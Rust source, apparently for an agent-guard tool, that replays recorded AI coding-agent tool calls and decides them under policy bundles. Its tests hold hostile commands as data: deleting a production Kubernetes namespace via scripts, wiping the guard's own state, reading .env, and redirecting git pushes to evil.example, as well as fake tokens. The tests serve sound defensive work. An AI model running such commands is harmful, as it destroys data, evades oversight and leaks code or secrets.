//! The calls decided, one by one in their session, many sessions at once.

use std::panic::{AssertUnwindSafe, catch_unwind};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Mutex, PoisonError};
use std::thread;

use countersign_agents::PastResult;
use countersign_model::{Decision, Effect, Timestamp};
use countersign_policy::{self as policy, Bundle, Context};
use countersign_redact::Redactor;
use countersign_understand::{Left, Pinning, Surroundings, Workspace, understand};
use serde_json::{Value, json};

use crate::assumed::{as_unix, is_all_or_nothing};
use crate::checkout::{Checkout, Files};
use crate::history::{Call, Session, Source};
use crate::memo::{Memo, Memos};
use crate::{Approvals, Assumed, History};

/// A history as one or two bundles decide it.
#[derive(Debug)]
pub struct Simulation<'h> {
    /// Each call with its decision, in the order of the history's sessions.
    pub decided: Vec<Decided<'h>>,
}

impl Simulation<'_> {
    /// How often somebody would have been asked.
    pub fn price(&self) -> Approvals {
        Approvals::of(&self.decided)
    }
}

/// A call as it would have been decided.
#[derive(Debug)]
pub struct Decided<'h> {
    /// Its session.
    pub session: &'h Session,
    /// The call.
    pub call: &'h Call,
    /// What it would have done, environments filled in by the bundle.
    pub effects: Vec<Effect>,
    /// What would have been decided.
    pub decision: Decision,
    /// What the other bundle would have decided, where it is not the same.
    pub other: Option<Decision>,
}

impl Decided<'_> {
    /// One line of JSON: where the call stands, what it would have done, what would have been decided.
    pub fn line(&self, redactor: &Redactor) -> Value {
        let effects: Vec<String> = self.effects.iter().map(ToString::to_string).collect();
        let shown = json!({
            "session": self.session.id, "call": self.call.call.id, "file": self.call.file, "tool": self.call.call.tool,
            "effects": effects, "reason": self.decision.reason,
        });
        let mut line = self.without_secrets(redactor, shown);
        if let Value::Object(line) = &mut line {
            line.insert("line".to_owned(), self.call.line.into());
            line.insert("text".to_owned(), crate::report::text(self, redactor).into());
            line.insert("decision".to_owned(), self.decision.kind.word().into());
            line.insert("risk".to_owned(), self.decision.risk.score.into());
            line.insert("policies".to_owned(), json!(self.decision.policies));
        }
        line
    }

    /// What is shown of a call, without its secrets: those too that only their place in its input gives away.
    pub(crate) fn without_secrets(&self, redactor: &Redactor, shown: Value) -> Value {
        let record = json!([shown, self.call.call.input]);
        match redactor.redact(&record) {
            Value::Array(mut parts) if !parts.is_empty() => parts.swap_remove(0),
            _ => Value::Null,
        }
    }

    /// The same of some texts: looking for secrets costs more than they do.
    pub(crate) fn texts_without_secrets<const N: usize>(
        &self,
        redactor: &Redactor,
        texts: [&str; N],
    ) -> [String; N] {
        let clean = self.without_secrets(redactor, texts.as_slice().into());
        let mut clean = clean.as_array().into_iter().flatten();
        texts.map(|_| clean.next().and_then(Value::as_str).unwrap_or_default().to_owned())
    }
}

/// Decides a history under a bundle, and under another one to compare with. `done` is told how many calls more are
/// decided, for whoever shows how far it is. `files` are those of a working tree of today, for what a session tells
/// nothing of.
pub fn run<'h>(
    history: &'h History,
    bundle: &Bundle,
    against: Option<&Bundle>,
    files: Option<Files<'_>>,
    done: &(dyn Fn(usize) + Sync),
) -> Simulation<'h> {
    let next = AtomicUsize::new(0);
    let parts: Mutex<Vec<(usize, Vec<Decided<'h>>)>> = Mutex::new(Vec::new());
    let work = || {
        let mut own = Vec::new();
        let mut memos = Memos::default();
        loop {
            let index = next.fetch_add(1, Ordering::Relaxed);
            let Some(session) = history.sessions.get(index) else { break };
            own.push((index, decide_session(session, bundle, against, files, &mut memos)));
            done(session.calls.len());
        }
        // What another thread left is whole: it only ever appends.
        parts.lock().unwrap_or_else(PoisonError::into_inner).append(&mut own);
    };
    let threads = thread::available_parallelism().map_or(1, usize::from).min(history.sessions.len().max(1));
    thread::scope(|scope| {
        for _ in 0..threads {
            // Parsing recurses, within limits, as deep as a hook's main thread allows.
            let started = thread::Builder::new().stack_size(STACK).spawn_scoped(scope, work);
            if started.is_err() {
                work();
            }
        }
    });
    let mut parts = parts.into_inner().unwrap_or_else(PoisonError::into_inner);
    parts.sort_by_key(|(index, _)| *index);
    Simulation { decided: parts.into_iter().flat_map(|(_, decided)| decided).collect() }
}

const STACK: usize = 16 << 20;

/// What is known of a session by one bundle as its calls are decided.
struct Progress {
    start: String,
    surroundings: Surroundings,
    workspace: Assumed,
    history: policy::History,
    past: policy::Past,
}

fn decide_session<'h>(
    session: &'h Session,
    bundle: &Bundle,
    against: Option<&Bundle>,
    files: Option<Files<'_>>,
    memos: &mut Memos,
) -> Vec<Decided<'h>> {
    // Fingerprints are compared with nothing here.
    let redactor = Redactor::new([0; 32]);
    let mut start = session.calls.first().map(|call| call.call.cwd.clone()).unwrap_or_default();
    as_unix(&mut start);
    let progress = |bundle: &Bundle| {
        let workspace = Assumed::new(&start, bundle);
        Progress {
            start: start.clone(),
            surroundings: workspace.surroundings(bundle),
            workspace,
            history: policy::History::default(),
            past: policy::Past::default(),
        }
    };
    let mut own = progress(bundle);
    let mut other = against.map(|against| (against, progress(against)));
    let mut decided = Vec::new();
    for call in &session.calls {
        let key = memos.key(&call.call);
        let findings = memos.scan(key, &call.call, || redactor.scan(&Value::Object(call.call.input.clone())));
        let decide = |progress: &mut Progress, bundle: &Bundle, memo: &mut Memo| {
            let guarded = catch_unwind(AssertUnwindSafe(|| {
                progress.decide((key, call), &findings, bundle, files, memo)
            }));
            guarded.unwrap_or_else(|_| (Vec::new(), policy::decide(&[], &Context::default(), bundle)))
        };
        let (effects, decision) = decide(&mut own, bundle, &mut memos.own);
        let other = other.as_mut().map(|(against, progress)| decide(progress, against, &mut memos.against).1);
        let other = other.filter(|other| other.kind != decision.kind);
        decided.push(Decided { session, call, effects, decision, other });
    }
    decided
}

impl Progress {
    fn decide(
        &mut self,
        (key, call): (Option<u64>, &Call),
        findings: &[countersign_model::Finding],
        bundle: &Bundle,
        files: Option<Files<'_>>,
        memo: &mut Memo,
    ) -> (Vec<Effect>, Decision) {
        self.workspace.on(call.branch.as_deref());
        self.workspace.foresees(&call.call);
        let (mut effects, context, left) = match &call.source {
            Source::Evidence { effects, context } => (effects.clone(), (**context).clone(), Left::default()),
            Source::Log => self.understand((key, call), findings, files, memo),
        };
        policy::classify(&mut effects, bundle, Some(self.workspace.root()));
        let decision = memo.decide(key, &effects, &context, || policy::decide(&effects, &context, bundle));
        self.history.decided(&decision.kind);
        // Without a time there is no saying how fast calls followed each other.
        let at = call.at.unwrap_or(Timestamp::MIN);
        self.past.decided(&call.call.id, &effects, &decision.kind, at);
        // It did run, or may have, whatever we would have said; what was held would have been approved to.
        if matches!(call.result, PastResult::Succeeded | PastResult::Failed | PastResult::Unknown) {
            self.history.ran(&effects);
            let has_failed = call.result == PastResult::Failed;
            self.workspace.leaves(&left, has_failed);
            if !(has_failed && is_all_or_nothing(&call.call)) {
                self.workspace.ran(&call.call, &effects, &left);
            }
        }
        (effects, decision)
    }

    fn understand(
        &self,
        (key, call): (Option<u64>, &Call),
        findings: &[countersign_model::Finding],
        files: Option<Files<'_>>,
        memo: &mut Memo,
    ) -> (Vec<Effect>, Context, Left) {
        let mut asked = call.call.clone();
        if asked.cwd.is_empty() {
            self.workspace.root().clone_into(&mut asked.cwd);
        }
        as_unix(&mut asked.cwd);
        for name in ["file_path", "notebook_path", "path"] {
            if let Some(Value::String(path)) = asked.input.get_mut(name) {
                as_unix(path);
            }
        }
        let assumed = &self.workspace;
        let checkout = files.map(|files| Checkout { assumed, files });
        let workspace = checkout.as_ref().map_or(assumed as &dyn Workspace, |checkout| checkout);
        let make = || understand(&asked, &self.surroundings, workspace);
        let understanding = memo.understand(key, &self.start, &asked, workspace, make);
        let now = call.at.unwrap_or(Timestamp::MAX);
        let context = Context {
            findings: findings.to_vec(),
            history: self.history.clone(),
            circumstances: self.past.circumstances(&call.call.id, &understanding.effects, now),
            pinnable: !matches!(understanding.pinning, Pinning::Impossible { .. }),
            ..Context::default()
        };
        let mut effects = understanding.effects;
        self.workspace.mark_own(&mut effects);
        (effects, context, understanding.left)
    }
}

#[cfg(test)]
mod tests {
    use countersign_model::Resource;
    use countersign_policy::{Proposal, build};

    use super::*;
    use crate::Report;

    /// What the calls of one session, made in a directory, are said to do to remote repositories.
    fn pushes(directory: &str, commands: &[&str]) -> Vec<String> {
        let effects = decided(directory, commands).into_iter().flat_map(|(effects, _)| effects);
        effects
            .filter(|effect| effect.verb.as_str().contains("push"))
            .map(|effect| format!("{} {}", effect.verb.as_str(), effect.resource))
            .collect()
    }

    /// What each of these commands of one session, made in a directory, does.
    fn decided(directory: &str, commands: &[&str]) -> Vec<(Vec<Effect>, Decision)> {
        let call = |command: &&str| json!({ "tool": "Bash", "input": { "command": command }, "cwd": directory, "session": "s" });
        let text = commands.iter().map(|command| call(command).to_string()).collect::<Vec<_>>().join("\n");
        let history = History::of([("s.jsonl".to_owned(), countersign_agents::read(text.as_bytes()))]);
        let bundle = build(&Proposal::default()).unwrap();
        let decided = run(&history, &bundle, None, None, &|_| {}).decided;
        decided.into_iter().map(|one| (one.effects, one.decision)).collect()
    }

    #[test]
    fn what_the_session_did_to_git_counts_for_the_next_push() {
        let last = |commands: &[&str]| pushes("/home/dev/shop", commands).pop().unwrap_or_default();
        let feature = "git checkout -b feature";
        for commands in [
            &[feature, "git checkout main", "git push"][..],
            &[feature, "git push", "git switch main", "git push origin HEAD"],
            &[feature, "git checkout other", "git checkout main", "git push"],
            &[feature, "git symbolic-ref HEAD refs/heads/main", "git push origin HEAD"],
            &[
                feature,
                "python3 -c \"import subprocess; subprocess.run(['git', 'checkout', 'main'])\"",
                "git push",
            ],
            &[feature, "git config remote.origin.push HEAD:refs/heads/main", "git push"],
            &[feature, "git branch -u origin/main && git config push.default upstream", "git push"],
            &[feature, "git checkout -", "git push"],
            &[feature, "git checkout main && git pull", "git checkout -", "git switch -", "git push"],
        ] {
            assert!(last(commands).starts_with("git.push main@origin"), "{commands:?}: {}", last(commands));
        }
        for commands in [
            &[feature, "git push"][..],
            &[feature, "git checkout main", "git checkout feature", "git push"],
            &[feature, "git config pull.rebase true", "git remote set-head origin main", "git push"],
            &[feature, "git branch --set-upstream-to=origin/feature feature", "git push"],
            &["git switch feature", "git push"],
        ] {
            let last = last(commands);
            assert!(
                last.starts_with("git.push feature@origin"),
                "{commands:?}: {:?}",
                pushes("/home/dev/shop", commands)
            );
        }
        // Where it goes now, or that nobody knows where.
        let address = |commands: &[&str]| {
            let (effects, _) = decided("/home/dev/shop", commands).pop().unwrap();
            let pushed = effects.into_iter().find_map(|effect| match effect.resource {
                Resource::Ref { repository, .. } => repository.remote,
                _ => None,
            });
            pushed.unwrap().url
        };
        let other = "git@github.com:acme/other.git";
        assert_eq!(
            address(&[&format!("git remote set-url origin {other}"), "git push"]).as_deref(),
            Some(other)
        );
        assert_eq!(
            address(&[&format!("git remote add fork {other}"), "git push fork HEAD"]).as_deref(),
            Some(other)
        );
        for changed in
            ["git config url.git@evil.example:.pushInsteadOf git@github.com:", "printf x >> .git/config"]
        {
            assert_eq!(address(&[changed, "git push"]), None, "{changed}");
        }
    }

    #[test]
    fn first_pushes() {
        let first = "git remote add origin https://github.com/acme/shop.git && git branch -M main && git push -u origin main";
        for directory in ["/home/dev/shop", "C:\\Users\\dev\\shop"] {
            for command in [first, "git branch -M main && git push -u origin main", "git push origin main"] {
                assert_eq!(pushes(directory, &[command]), ["git.push main@origin"], "{directory}: {command}");
            }
        }
    }

    /// Which verbs the last of these calls of one session has.
    fn last(commands: &[&str]) -> String {
        let (effects, _) = decided("/home/dev/shop", commands).pop().unwrap();
        effects.iter().map(|effect| effect.verb.as_str()).collect::<Vec<_>>().join(" ")
    }

    #[test]
    fn names_of_variables_that_nobody_tells() {
        for command in ["grep -o '^[^=]*' .env", "cat .env | sed 's/=.*/=<set>/'", "cut -d= -f1 .env.local"] {
            assert!(!last(&[command]).contains("secret.read"), "{command}: {}", last(&[command]));
        }
        assert!(last(&["cat .env"]).contains("secret.read"));
        assert!(last(&["cp ~/.netrc .env", "cut -d= -f1 .env"]).contains("secret.read"));
    }

    #[test]
    fn scripts_that_the_session_wrote_in_the_shell_are_read() {
        let writes = "cat > d.sh <<'X'\nkubectl --context prod delete ns billing\nX";
        for commands in [
            &[writes, "sh d.sh"][..],
            &["echo 'kubectl delete ns billing' > e.sh", "bash e.sh"],
            &["printf 'set -e\n' > e.sh", "echo 'kubectl delete ns billing' >> e.sh", "bash e.sh"],
            &[writes, "cp d.sh e.sh", "sh e.sh"],
            &[writes, "mv d.sh e.sh && chmod +x e.sh", "./e.sh"],
            &["cat > e.py <<'X'\nimport os\nos.system('kubectl delete ns billing')\nX", "python3 e.py"],
        ] {
            assert!(last(commands).contains("kube.delete"), "{commands:?}: {}", last(commands));
        }
        for commands in [&[writes, "echo ls > d.sh", "sh d.sh"], &[writes, "rm d.sh", "sh d.sh"]] {
            assert!(!last(commands).contains("kube.delete"), "{commands:?}: {}", last(commands));
        }
    }

    /// Which verbs the last of these calls has: commands, and lines of tool calls.
    fn last_of(calls: &[Value]) -> String {
        let line = |call: &Value| {
            let mut call = match call.as_str() {
                Some(command) => json!({ "tool": "Bash", "input": { "command": command } }),
                None => call.clone(),
            };
            for (key, value) in [("cwd", "/home/dev/shop"), ("session", "s")] {
                call.as_object_mut().unwrap().entry(key).or_insert_with(|| value.into());
            }
            call.to_string()
        };
        let text = calls.iter().map(line).collect::<Vec<_>>().join("\n");
        let mut history = History::of([("s.jsonl".to_owned(), countersign_agents::read(text.as_bytes()))]);
        let known = history.sessions.iter_mut().flat_map(|session| &mut session.calls);
        for (known, _) in known.zip(calls).filter(|(_, call)| call.get("failed").is_some()) {
            known.result = PastResult::Failed;
        }
        let bundle = build(&Proposal::default()).unwrap();
        let last = run(&history, &bundle, None, None, &|_| {}).decided.pop().unwrap();
        last.effects.iter().map(|effect| effect.verb.as_str()).collect::<Vec<_>>().join(" ")
    }

    #[test]
    fn scripts_that_the_session_wrote_by_a_tool_are_read() {
        let text = "kubectl --context prod delete ns billing\n";
        let write = |path: &str, text: &str| json!({ "tool": "Write", "input": { "file_path": path, "content": text } });
        let edit = |old: &str, new: &str| json!({ "tool": "Edit", "input": { "file_path": "/home/dev/shop/d.sh", "old_string": old, "new_string": new } });
        let below = |call: Value| {
            let mut call = call;
            call["cwd"] = "/home/dev/shop/scripts".into();
            call
        };
        let failed = |call: Value| {
            let mut call = call;
            call["failed"] = true.into();
            call
        };
        let path = "/home/dev/shop/d.sh";
        for calls in [
            &[write(path, text), "bash d.sh".into()][..],
            &[write("d.sh", text), "bash d.sh".into()],
            &[write("./d.sh", text), "chmod +x d.sh".into(), "./d.sh".into()],
            &[below(write("d.sh", text)), "sh scripts/d.sh".into()],
            &[write("scripts/d.sh", text), "cd scripts && sh d.sh".into()],
            &[write("/tmp/d.sh", text), "sh /tmp/d.sh".into()],
            &[write(path, text), "mv d.sh e.sh".into(), "bash e.sh".into()],
            &[write(path, text), "cp d.sh e.sh".into(), "bash e.sh".into()],
            &[write(path, "ls\n"), "echo 'kubectl delete ns billing' >> d.sh".into(), "sh d.sh".into()],
            &[write(path, "#!/bin/sh\nls\n"), edit("ls\n", text), "sh d.sh".into()],
            &[edit("", text), "sh d.sh".into()],
            &["echo ls > d.sh".into(), edit("ls", text), "sh d.sh".into()],
            &[write(path, text), failed(edit("ls", "pwd")), "sh d.sh".into()],
            &[write(path, text), failed(write(path, "ls\n")), "sh d.sh".into()],
            &[write("Makefile", &format!("gone:\n\t{text}")), "make gone".into()],
            &[
                write("package.json", r#"{"scripts": {"gone": "kubectl --context prod delete ns billing"}}"#),
                "npm run gone".into(),
            ],
            &[
                json!({ "tool": "MultiEdit", "input": { "file_path": path, "edits": [
                    { "old_string": "", "new_string": "ls\n" }, { "old_string": "ls\n", "new_string": text } ] } }),
                "sh d.sh".into(),
            ],
        ] {
            assert!(last_of(calls).contains("kube.delete"), "{calls:?}: {}", last_of(calls));
        }
        for calls in [
            &[write(path, text), write(path, "ls\n"), "sh d.sh".into()][..],
            &[write(path, text), edit(text, "ls\n"), "sh d.sh".into()],
            &[write(path, text), "rm d.sh".into(), "sh d.sh".into()],
        ] {
            assert!(!last_of(calls).contains("kube.delete"), "{calls:?}: {}", last_of(calls));
        }
        // An edit that does not fit says that what was known of the file is wrong.
        let lost = last_of(&[write(path, "ls\n"), edit("pwd", "ls"), "sh d.sh".into()]);
        assert!(lost.contains("exec.opaque"), "{lost}");
    }

    #[test]
    fn our_own_home_is_where_it_usually_is() {
        for home in [
            "~/.local/state/countersign",
            "'/home/dev/Library/Application Support/countersign'",
            "~/.countersign",
        ] {
            let (effects, decision) = decided("/home/dev/shop", &[&format!("rm -rf {home}")]).pop().unwrap();
            assert!(effects.iter().any(|effect| effect.verb.as_str() == "countersign.tamper"), "{home}");
            assert_eq!(decision.kind.word(), "deny", "{home}");
        }
    }

    #[test]
    fn modules_of_python_are_its_own() {
        let code = "python -c \"import json; print(json.load(open('.claude/settings.json')))\"";
        assert_eq!(last(&[code]), "fs.read exec.read");
        assert!(last(&["cp x json.py", code]).contains("tamper"));
        assert!(
            last(&["python -c \"import shop; print(open('.claude/settings.json'))\""]).contains("tamper")
        );
    }

    #[test]
    fn no_secret_of_a_call_is_shown_anywhere() {
        let token = ["gh", "p_", "0123456789abcdefghijABCDEFGHIJ012345"].concat();
        let calls = [
            json!({ "tool": "Bash", "input": { "command": format!("npm install https://u:{token}@h.example/x.tgz") } }),
            json!({ "tool": "Write", "input": { "file_path": format!("/etc/{token}"), "content": "x" } }),
            json!({ "tool": format!("mcp__{token}__x"), "input": { "password": "hunter2/prod" } }),
            json!({ "tool": "Bash", "input": { "command": format!("git push origin main:{token}") } }),
            json!({ "tool": "Bash", "input": { "command": "gh secret set KEY -b hunter2/prod" } }),
            json!({ "tool": "Bash", "input": { "command": "sudo -S ls <<< hunter2/prod; rm /etc/hunter2/prod" } }),
        ];
        let text = calls.map(|call| call.to_string()).join("\n");
        let history = History::of([(format!("{token}.jsonl"), countersign_agents::read(text.as_bytes()))]);
        let bundle = build(&Proposal::default()).unwrap();
        let other = build(&Proposal { pack: policy::Pack::Observe, ..Proposal::default() }).unwrap();
        let simulation = run(&history, &bundle, Some(&other), None, &|_| {});
        assert_eq!(simulation.decided.len(), 6);
        let redactor = Redactor::new([0; 32]);
        let mut shown: Vec<String> =
            simulation.decided.iter().map(|one| one.line(&redactor).to_string()).collect();
        let report = Report::of(&history, &simulation, &bundle, Some(&other), None);
        shown.push(serde_json::to_string_pretty(&report).unwrap());
        for shown in shown {
            assert!(!shown.contains(&token) && !shown.contains("hunter2"), "{shown}");
        }
    }
}
